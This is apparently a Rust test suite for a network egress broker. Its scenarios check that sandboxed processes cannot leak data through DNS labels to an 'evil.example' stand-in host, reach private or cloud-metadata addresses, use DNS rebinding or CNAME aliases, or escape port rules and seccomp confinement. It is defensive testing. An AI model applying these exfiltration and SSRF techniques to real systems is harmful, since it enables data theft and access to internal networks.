//! Ways out that are not allowed. Each is first shown to reach its target with the check
//! off.

use std::io::Write as _;
use std::net::{IpAddr, UdpSocket};
use std::sync::atomic::Ordering;

use broker::report::{Reason, Verdict};

use crate::Scenario;
use crate::carries::{REQUEST, everywhere};
use crate::internet::{Record, Resolver, echo, serve};
use crate::rig::{Rig, config, exchange, internet, without_address_checks};

pub(crate) const SCENARIOS: &[Scenario] = &[
    ("attacks/names", names),
    ("attacks/literals", literals),
    ("attacks/other-records", other_records),
    ("attacks/private-addresses", private_addresses),
    ("attacks/own-address", own_address),
    ("attacks/rebinding", rebinding),
    ("attacks/alias-to-private", alias_to_private),
    ("attacks/denied-network", denied_network),
    ("attacks/other-ports", other_ports),
    ("attacks/confinement", confinement),
];

/// Data in DNS names goes nowhere.
fn names() {
    let internet = internet();
    let resolver = everywhere("93.184.216.34");
    let data = "the-secret-in-a-label.evil.example";
    // With a rule that allows it, the name does leave the cell.
    let wide = Rig::start(&internet, &config(&["*.evil.example"], &resolver));
    let mut stream = wide.connect(data, 80);
    let _ = stream.write_all(format!("GET / HTTP/1.1\r\nHost: {data}\r\n\r\n").as_bytes());
    wide.closed(data);
    assert_eq!(*resolver.asked.lock().unwrap(), [data]);
    drop(wide);
    resolver.asked.lock().unwrap().clear();

    let rig = Rig::start(
        &internet,
        &config(&["example.com", "*.example.org"], &resolver),
    );
    for name in [
        data,
        "evil.example",
        "sub.example.com",
        "example.org",
        "notexample.org",
        "example.com.evil.example",
        "xn--example.com",
        "1.2.3.4",
        "localhost",
        "metadata.google.internal",
    ] {
        for kind in [1, 28, 16, 65] {
            assert_eq!(rig.lookup(name, kind), (3, Vec::new()), "{name}");
        }
        rig.refused(name);
    }
    assert_eq!(rig.refused(data).count, 4);
    let escaped = "example.com\u{0}.evil";
    assert_eq!(rig.lookup(escaped, 1).0, 3);
    assert_eq!(
        rig.refused("example.com\\x00.evil").reason,
        Reason::InvalidName
    );
    assert!(resolver.asked.lock().unwrap().is_empty());
    let totals = rig.end();
    assert_eq!((totals.queries, totals.queries_refused), (41, 41));
}

/// Addresses lead nowhere, synthetic ones that stand for no name included.
fn literals() {
    let internet = internet();
    let served = serve("93.184.216.34:80", echo);
    let resolver = everywhere("93.184.216.34");
    let rig = Rig::start(&internet, &config(&["example.com"], &resolver));
    assert_eq!(rig.exchange("example.com", 80, REQUEST), REQUEST);
    for address in [
        "198.18.9.9",
        "198.18.0.1",
        "127.0.0.1",
        "::1",
        "fd00:cb::9999",
    ] {
        let address: IpAddr = address.parse().unwrap();
        let mut stream = rig.connect_to(address, 80);
        assert_eq!(exchange(&mut stream, REQUEST), b"", "{address}");
        let reason = rig.refused(&address.to_string()).reason;
        assert!(
            matches!(reason, Reason::UnknownAddress | Reason::NotAllowed),
            "{reason:?}"
        );
    }
    rig.inside(|| {
        for address in [
            "93.184.216.34:80",
            "169.254.169.254:80",
            "[2600:1234::1]:80",
        ] {
            let error = std::net::TcpStream::connect(address).unwrap_err();
            assert_eq!(
                error.kind(),
                std::io::ErrorKind::NetworkUnreachable,
                "{address}"
            );
        }
        // QUIC, and DNS elsewhere.
        for address in ["198.18.1.0:443", "198.18.1.0:53"] {
            let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
            socket.connect(address).unwrap();
            socket.send(b"x").unwrap();
            let error = socket.recv(&mut [0; 9]).unwrap_err();
            assert_eq!(error.kind(), std::io::ErrorKind::ConnectionRefused);
        }
    });
    assert_eq!(served.load(Ordering::SeqCst), 1);
}

/// No record brings keys for an encrypted ClientHello, or a hint to use QUIC.
fn other_records() {
    let internet = internet();
    let resolver = everywhere("93.184.216.34");
    let rig = Rig::start(&internet, &config(&["example.com"], &resolver));
    for kind in [65, 64, 16, 15, 33, 255] {
        assert_eq!(rig.lookup("example.com", kind), (0, Vec::new()), "{kind}");
    }
    assert_eq!(rig.lookup("example.com", 1).1.len(), 1);
}

/// Where names lead that are not to lead there, with what the connection reaches: `::/96`
/// as an address of its own kind, and IPv4 in disguise at the IPv4 server.
const PRIVATE: [&str; 18] = [
    "127.0.0.1",
    "::1",
    "10.0.0.5",
    "100.64.0.1",
    "100.100.100.200",
    "168.63.129.16",
    "169.254.169.254",
    "172.16.0.1",
    "192.0.0.192",
    "192.168.1.1",
    "fd00:ec2::254",
    "fd20:ce::254",
    "::ffff:127.0.0.1",
    "::ffff:169.254.169.254",
    "64:ff9b::a9fe:a9fe",
    "2002:a9fe:a9fe::1",
    "2001:0:a9fe:a9fe::1",
    "::a9fe:a9fe",
];

fn private_addresses() {
    let internet = internet();
    // Any address of this host.
    let served = serve("0.0.0.0:7000", echo);
    let served_by_ipv6 = serve("[::]:7000", echo);
    let count = || served.load(Ordering::SeqCst) + served_by_ipv6.load(Ordering::SeqCst);
    let resolver = Resolver::start(false, |name, _| {
        let number: usize = name.strip_prefix('n')?.split('.').next()?.parse().ok()?;
        Some(vec![Record::Address(PRIVATE.get(number)?.parse().unwrap())])
    });
    let config = config(&["*.example.com:7000"], &resolver);
    let open = Rig::start(&internet, &without_address_checks(&config));
    for (number, address) in PRIVATE.iter().enumerate() {
        let name = format!("n{number}.example.com");
        assert_eq!(
            open.exchange(&name, 7000, b"\x01hello"),
            b"\x01hello",
            "{address}"
        );
        assert_eq!(open.closed(&name).verdict, Verdict::Allowed);
    }
    drop(open);
    let reached = count();
    assert_eq!(reached, PRIVATE.len());
    let rig = Rig::start(&internet, &config);
    for (number, address) in PRIVATE.iter().enumerate() {
        let name = format!("n{number}.example.com");
        assert_eq!(rig.exchange(&name, 7000, b"\x01hello"), b"", "{address}");
        rig.closed_because(&name, Reason::RefusedAddress);
    }
    assert_eq!(count(), reached);
}

/// An address that is public and this host's own.
fn own_address() {
    let internet = internet();
    let served = serve("93.184.216.34:7000", echo);
    let resolver = everywhere("93.184.216.34");
    let mut config = config(&["example.com:7000"], &resolver);
    let open = Rig::start(&internet, &config);
    assert_eq!(
        open.exchange("example.com", 7000, b"\x01hello"),
        b"\x01hello"
    );
    drop(open);
    config.upstream.permit.clear();
    let rig = Rig::start(&internet, &config);
    assert_eq!(rig.exchange("example.com", 7000, b"\x01hello"), b"");
    rig.closed_because("example.com", Reason::RefusedAddress);
    assert_eq!(served.load(Ordering::SeqCst), 1);
}

/// A name that has another address each time: what was checked is dialled.
fn rebinding() {
    let internet = internet();
    let public = serve("93.184.216.34:7000", echo);
    let private = serve("10.0.0.5:7000", echo);
    let resolver = Resolver::start(false, |_, nth| {
        let address = if nth % 2 == 1 {
            "93.184.216.34"
        } else {
            "10.0.0.5"
        };
        Some(vec![Record::Address(address.parse().unwrap())])
    });
    let config = config(&["example.com:7000"], &resolver);
    let open = Rig::start(&internet, &without_address_checks(&config));
    for _ in 0..2 {
        assert_eq!(
            open.exchange("example.com", 7000, b"\x01hello"),
            b"\x01hello"
        );
    }
    drop(open);
    assert_eq!(private.load(Ordering::SeqCst), 1);
    let rig = Rig::start(&internet, &config);
    for round in 0..4 {
        let reached = rig.exchange("example.com", 7000, b"\x01hello") == b"\x01hello";
        assert_eq!(reached, round % 2 == 0);
    }
    // One lookup for each connection.
    assert_eq!(resolver.asked.lock().unwrap().len(), 6);
    assert_eq!(
        (
            public.load(Ordering::SeqCst),
            private.load(Ordering::SeqCst)
        ),
        (3, 1)
    );
}

fn alias_to_private() {
    let internet = internet();
    serve("10.0.0.5:7000", echo);
    let resolver = Resolver::start(false, |name, _| match name {
        "example.com" => Some(vec![
            Record::Alias("internal.example".to_owned()),
            Record::Address("10.0.0.5".parse().unwrap()),
        ]),
        _ => None,
    });
    let config = config(&["example.com:7000"], &resolver);
    let open = Rig::start(&internet, &without_address_checks(&config));
    assert_eq!(
        open.exchange("example.com", 7000, b"\x01hello"),
        b"\x01hello"
    );
    drop(open);
    let rig = Rig::start(&internet, &config);
    assert_eq!(rig.exchange("example.com", 7000, b"\x01hello"), b"");
    rig.closed_because("example.com", Reason::RefusedAddress);
}

/// A network that is denied is so for names as well.
fn denied_network() {
    let internet = internet();
    serve("93.184.216.34:7000", echo);
    let resolver = everywhere("93.184.216.34");
    let mut config = config(&["example.com:7000"], &resolver);
    let open = Rig::start(&internet, &config);
    assert_eq!(
        open.exchange("example.com", 7000, b"\x01hello"),
        b"\x01hello"
    );
    drop(open);
    config.rules.deny.push("93.184.216.0/24".parse().unwrap());
    let rig = Rig::start(&internet, &config);
    assert_eq!(rig.exchange("example.com", 7000, b"\x01hello"), b"");
    rig.closed_because("example.com", Reason::Denied);
}

/// A port that is named for another host.
fn other_ports() {
    let internet = internet();
    let served = serve("93.184.216.34:7000", echo);
    let resolver = everywhere("93.184.216.34");
    let rig = Rig::start(
        &internet,
        &config(&["example.com", "example.org:7000"], &resolver),
    );
    assert_eq!(
        rig.exchange("example.org", 7000, b"\x01hello"),
        b"\x01hello"
    );
    assert_eq!(rig.exchange("example.com", 7000, b"\x01hello"), b"");
    assert_eq!(rig.refused("example.com").reason, Reason::PortNotAllowed);
    let address = rig.address("example.com");
    rig.inside(|| {
        for port in [22, 25, 8080] {
            let error = std::net::TcpStream::connect((address, port)).unwrap_err();
            assert_eq!(error.kind(), std::io::ErrorKind::ConnectionRefused);
        }
    });
    assert_eq!(served.load(Ordering::SeqCst), 1);
}

/// What the kernel says about the process.
fn confinement() {
    let internet = internet();
    let resolver = everywhere("93.184.216.34");
    let mut rig = Rig::start(&internet, &config(&["example.com"], &resolver));
    let status = |pid: u32| std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let own = status(std::process::id());
    let broker = status(rig.pid());
    for (field, value) in [
        ("NoNewPrivs", "1"),
        ("Seccomp", "2"),
        ("CapEff", "0000000000000000"),
        ("CapPrm", "0000000000000000"),
        ("Threads", "1"),
    ] {
        let line = format!("{field}:\t{value}\n");
        assert!(broker.contains(&line), "{field}: {broker}");
        // This process has none of it: it has capabilities, and is not held.
        if field != "Threads" {
            assert!(!own.contains(&line), "{field}: {own}");
        }
    }
    let limits = std::fs::read_to_string(format!("/proc/{}/limits", rig.pid())).unwrap();
    // Its standard error is closed while it goes on: the caller's terminal is not its own.
    assert_eq!(rig.standard_error(), "");
    assert_eq!(rig.lookup("example.com", 1).0, 0);
    for limit in [
        "Max core file size        0 ",
        "Max file size             0 ",
        "Max processes             0 ",
    ] {
        assert!(limits.contains(limit), "{limits}");
    }
}
